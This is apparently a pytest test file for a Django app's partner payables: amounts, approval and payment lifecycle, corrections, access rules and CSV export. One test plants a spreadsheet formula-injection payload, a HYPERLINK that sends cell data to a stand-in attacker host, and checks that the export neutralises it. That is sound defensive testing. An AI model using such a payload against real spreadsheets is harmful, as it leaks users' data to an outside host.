"""Payables: one per completed run with a rate, from its good output; open -> approved -> paid, void; corrections
after payment add a balance; the partner sees only its own; CSV for accounting."""

import csv
from decimal import Decimal
import io

import pytest

from production.models import ActivityVerb, Payable, ProductionRun
from tests.money.conftest import allocate, send, staff_url, work_through

pytestmark = pytest.mark.django_db


def _made(staff_api, api, design, partner, steps, *, quantity, rate, rate_type="per_unit", **complete) -> dict:
    _, (child,) = allocate(staff_api, design, [{"partner": partner.pk, "role": "making", "quantity": quantity,
                                                "rate": rate, "rate_type": rate_type}], quantity)
    send(staff_api, child["id"], steps)
    return work_through(api, child["id"], **complete)


def _payables(staff_api, **filters) -> list[dict]:
    return staff_api.get("/api/admin/payables/", filters).json()["results"]


def test_money_is_decimal_not_float(staff_api, api_a, coat, partner_a, steps):
    run = _made(staff_api, api_a, coat, partner_a, steps, quantity=3, rate="0.10")
    (payable,) = _payables(staff_api, run=run["id"])
    assert payable["amount"] == "0.30"  # 0.1 * 3 in floats is 0.30000000000000004
    assert Payable.objects.get().amount == Decimal("0.30")


def test_a_completed_run_is_paid_for_its_good_pieces(staff_api, api_a, coat, partner_a, steps, staff):
    run = _made(staff_api, api_a, coat, partner_a, steps, quantity=10, rate="4.25", produced_quantity=8,
                rejected_quantity=2, rejection_reason="fabric_flaw")
    (payable,) = _payables(staff_api)
    assert (payable["run"], payable["partner"], payable["units"], payable["amount"], payable["currency"],
            payable["status"], payable["kind"]) == (run["id"], partner_a.pk, 8, "34.00", "EUR", "open", "completion")
    parent = ProductionRun.objects.get(pk=run["parent_run"])
    assert parent.status == "completed" and not parent.payables.exists()  # never paid twice through the parent
    assert ProductionRun.objects.get(pk=run["id"]).activities.filter(verb=ActivityVerb.PAYABLE_CREATED).count() == 1


def test_a_total_rate_is_paid_whole_and_no_rate_is_no_payable(staff_api, api_a, coat, partner_a, steps):
    _made(staff_api, api_a, coat, partner_a, steps, quantity=5, rate="120.00", rate_type="total",
          produced_quantity=4, rejected_quantity=1)
    assert [p["amount"] for p in _payables(staff_api)] == ["120.00"]
    _, (child,) = allocate(staff_api, coat, [{"partner": partner_a.pk, "role": "extra", "quantity": 2}], 2)
    send(staff_api, child["id"], steps)
    work_through(api_a, child["id"])
    assert Payable.objects.count() == 1


def test_open_approved_paid_and_the_refusals(staff_api, api_a, coat, partner_a, steps, staff, user_a):
    _made(staff_api, api_a, coat, partner_a, steps, quantity=4, rate="5.00")
    pid = Payable.objects.get().pk
    url = f"/api/admin/payables/{pid}/"
    assert staff_api.post(url + "pay", {}, format="json").status_code == 409  # approve first
    adjusted = staff_api.post(url + "adjust", {"amount": "18.50", "reason": "Agreed discount"}, format="json")
    assert adjusted.status_code == 200 and adjusted.json()["amount"] == "18.50"
    assert staff_api.post(url + "adjust", {"amount": "1.00"}, format="json").status_code == 400  # no reason
    assert staff_api.post(url + "approve", {}, format="json").json()["status"] == "approved"
    assert staff_api.post(url + "approve", {}, format="json").status_code == 409
    assert staff_api.post(url + "adjust", {"amount": "1.00", "reason": "x"}, format="json").status_code == 409
    paid = staff_api.post(url + "pay", {"reference": "SEPA-2026-11-27"}, format="json").json()
    assert (paid["status"], paid["reference"], paid["amount"]) == ("paid", "SEPA-2026-11-27", "18.50")
    assert staff_api.post(url + "void", {"reason": "oops"}, format="json").status_code == 409
    log = ProductionRun.objects.get(pk=paid["run"]).activities.filter(verb__startswith="payable_")
    assert [(a.verb, a.actor_id) for a in log] == [("payable_created", user_a.pk), ("payable_adjusted", staff.pk),
                                                    ("payable_approved", staff.pk), ("payable_paid", staff.pk)]
    assert log.get(verb="payable_adjusted").note == "20.00 -> 18.50: Agreed discount"


def test_void_needs_a_reason(staff_api, api_a, coat, partner_a, steps):
    _made(staff_api, api_a, coat, partner_a, steps, quantity=2, rate="1.00")
    url = f"/api/admin/payables/{Payable.objects.get().pk}/void"
    assert staff_api.post(url, {"reason": ""}, format="json").status_code == 400
    voided = staff_api.post(url, {"reason": "Paid in cash already"}, format="json").json()
    assert (voided["status"], voided["note"]) == ("void", "Paid in cash already")


def test_bulk_approve_is_all_or_none(staff_api, api_a, coat, partner_a, steps):
    for _ in range(3):
        _made(staff_api, api_a, coat, partner_a, steps, quantity=2, rate="1.00")
    first, second, third = Payable.objects.order_by("id").values_list("pk", flat=True)
    staff_api.post(f"/api/admin/payables/{third}/void", {"reason": "duplicate"}, format="json")
    refused = staff_api.post("/api/admin/payables/approve", {"ids": [first, second, third]}, format="json")
    assert refused.status_code == 409 and f"Payable #{third} is void" in refused.json()["detail"]
    unknown = staff_api.post("/api/admin/payables/approve", {"ids": [first, 999999]}, format="json")
    assert unknown.status_code == 400 and "ids" in unknown.json()
    assert not Payable.objects.filter(status="approved").exists()
    done = staff_api.post("/api/admin/payables/approve", {"ids": [second, first]}, format="json")
    assert done.json() == {"approved": [first, second]}


def test_a_correction_moves_an_unpaid_amount_and_balances_a_paid_one(staff_api, api_a, coat, partner_a, steps):
    run = _made(staff_api, api_a, coat, partner_a, steps, quantity=10, rate="3.00", produced_quantity=9,
                rejected_quantity=1)
    correct = staff_url(run["id"], "correct-output")
    staff_api.post(correct, {"produced_quantity": 8, "rejected_quantity": 2, "reason": "One more flaw found"},
                   format="json")
    (payable,) = Payable.objects.all()
    assert payable.amount == Decimal("24.00") and payable.units == 8  # unpaid: the amount follows
    staff_api.post(f"/api/admin/payables/{payable.pk}/approve", {}, format="json")
    staff_api.post(f"/api/admin/payables/{payable.pk}/pay", {"reference": "T-1"}, format="json")

    staff_api.post(correct, {"produced_quantity": 6, "rejected_quantity": 4, "reason": "Recount"}, format="json")
    payable.refresh_from_db()
    assert (payable.status, payable.amount) == ("paid", Decimal("24.00"))  # paid history never changes
    balance = Payable.objects.get(kind="balance")
    assert (balance.amount, balance.status, balance.units) == (Decimal("-6.00"), "open", 6)
    staff_api.post(correct, {"produced_quantity": 7, "rejected_quantity": 3, "reason": "Found one"}, format="json")
    balance.refresh_from_db()
    assert balance.amount == Decimal("-3.00")  # the open balance follows; still one balance
    assert sum(Payable.objects.due().values_list("amount", flat=True)) == Decimal("21.00") == 7 * Decimal("3.00")


def test_a_correction_keeps_a_staff_adjustment_and_moves_only_by_what_it_changes(staff_api, api_a, coat,
                                                                                 partner_a, steps):
    """A late-delivery penalty adjusted on the payable was undone by the next correction, even of the rejects alone
    (the amount was set back to rate x good pieces, or a paid one got a balance cancelling the penalty)."""
    run = _made(staff_api, api_a, coat, partner_a, steps, quantity=10, rate="3.00", produced_quantity=8,
                rejected_quantity=1, shortfall_reason="Lost in transit")  # 24.00
    (payable,) = Payable.objects.all()
    staff_api.post(f"/api/admin/payables/{payable.pk}/adjust", {"amount": "20.00", "reason": "Late delivery"},
                   format="json")
    correct = staff_url(run["id"], "correct-output")
    rejects_only = staff_api.post(correct, {"produced_quantity": 8, "rejected_quantity": 2, "reason": "Found it"},
                                  format="json")
    assert rejects_only.status_code == 200, rejects_only.json()
    payable.refresh_from_db()
    assert payable.amount == Decimal("20.00")  # the good pieces did not change: nor does what is owed
    staff_api.post(correct, {"produced_quantity": 7, "rejected_quantity": 3, "reason": "One more flaw"},
                   format="json")
    payable.refresh_from_db()
    assert payable.amount == Decimal("17.00")  # one good piece less: 3.00 less, the penalty kept

    staff_api.post(f"/api/admin/payables/{payable.pk}/approve", {}, format="json")
    staff_api.post(f"/api/admin/payables/{payable.pk}/pay", {"reference": "T-2"}, format="json")
    recount = staff_api.post(correct, {"produced_quantity": 7, "rejected_quantity": 2, "reason": "Recount",
                                       "shortfall_reason": "Lost in transit"}, format="json")
    assert recount.status_code == 200, recount.json()
    assert not Payable.objects.filter(kind="balance").exists()  # paid, and nothing owed changed: no balance


def test_a_correction_taking_off_more_than_an_adjustment_left_owes_nothing(staff_api, api_a, coat, partner_a,
                                                                           steps):
    """10 x 1.00 adjusted to 2.00 (a penalty), then 5 good pieces fewer: 2.00 - 5.00 broke the non-negative
    check (a 500, and the run's output could not be corrected while the payable stayed adjusted)."""
    run = _made(staff_api, api_a, coat, partner_a, steps, quantity=10, rate="1.00")
    (payable,) = Payable.objects.all()
    staff_api.post(f"/api/admin/payables/{payable.pk}/adjust", {"amount": "2.00", "reason": "Late delivery"},
                   format="json")
    corrected = staff_api.post(staff_url(run["id"], "correct-output"),
                               {"produced_quantity": 5, "rejected_quantity": 5, "reason": "Recount",
                                "rejection_reason": "fabric_flaw"}, format="json")
    assert corrected.status_code == 200, corrected.json()
    payable.refresh_from_db()
    assert (payable.amount, payable.units, payable.status) == (Decimal("0.00"), 5, "open")
    assert ProductionRun.objects.get(pk=run["id"]).produced_quantity == 5
    note = payable.run.activities.filter(verb=ActivityVerb.PAYABLE_ADJUSTED).latest("id").note
    assert note == ("Output corrected: 2.00 -> 0.00. The adjusted amount was less than the 5.00 the correction "
                    "takes off: nothing is owed. Recount")


def test_partners_see_only_their_own_payables(staff_api, api_a, api_b, coat, partner_a, partner_b, steps):
    _made(staff_api, api_a, coat, partner_a, steps, quantity=2, rate="1.50")
    _made(staff_api, api_b, coat, partner_b, steps, quantity=2, rate="2.50")
    mine = api_a.get("/api/partners/payables/").json()
    assert [(p["partner"], p["amount"]) for p in mine["results"]] == [(partner_a.pk, "3.00")]
    theirs = Payable.objects.get(partner=partner_b).pk
    assert api_a.get(f"/api/partners/payables/{theirs}/").status_code == 404
    assert api_b.get(f"/api/partners/payables/{theirs}/").json()["amount"] == "5.00"
    assert api_a.get("/api/admin/payables/").status_code == 403


def test_csv_export_parses_back_to_the_api_list(staff_api, api_a, api_b, coat, partner_a, partner_b, steps):
    _made(staff_api, api_a, coat, partner_a, steps, quantity=3, rate="0.10")
    _made(staff_api, api_b, coat, partner_b, steps, quantity=4, rate="12.75", produced_quantity=3,
          rejected_quantity=1)
    response = staff_api.get("/api/admin/payables/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    listed = sorted(_payables(staff_api), key=lambda p: p["id"])
    columns = ["id", "run", "partner", "partner_name", "units", "rate", "rate_type", "amount", "currency", "status"]
    assert [{c: row[c] for c in columns} for row in rows] == [{c: str(p[c]) for c in columns} for p in listed]
    only_b = list(csv.DictReader(io.StringIO(staff_api.get(
        "/api/admin/payables/export.csv", {"partner": partner_b.pk}).content.decode())))
    assert [(r["partner_name"], r["amount"]) for r in only_b] == [("Bottega B", "38.25")]
    assert staff_api.get("/api/admin/payables/export.csv", {"status": "nope"}).status_code == 400


def test_exported_text_never_starts_a_spreadsheet_formula(staff_api, api_a, coat, partner_a, steps):
    partner_a.name = '=HYPERLINK("https://evil.example/?"&A2,"Invoice")'
    partner_a.save()
    coat.name = "@SUM(1+1)"
    coat.save()
    _made(staff_api, api_a, coat, partner_a, steps, quantity=2, rate="1.50")
    exports = [staff_api.get("/api/admin/payables/export.csv").content.decode(),
               b"".join(staff_api.get("/api/admin/production-runs/export.csv").streaming_content).decode()]
    rows = [row for text in exports for row in list(csv.DictReader(io.StringIO(text)))]
    assert {row["partner_name"] for row in rows if row["partner_name"]} == {f"'{partner_a.name}"}
    assert {row.get("design_name") or row.get("design") for row in rows} >= {"'@SUM(1+1)"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
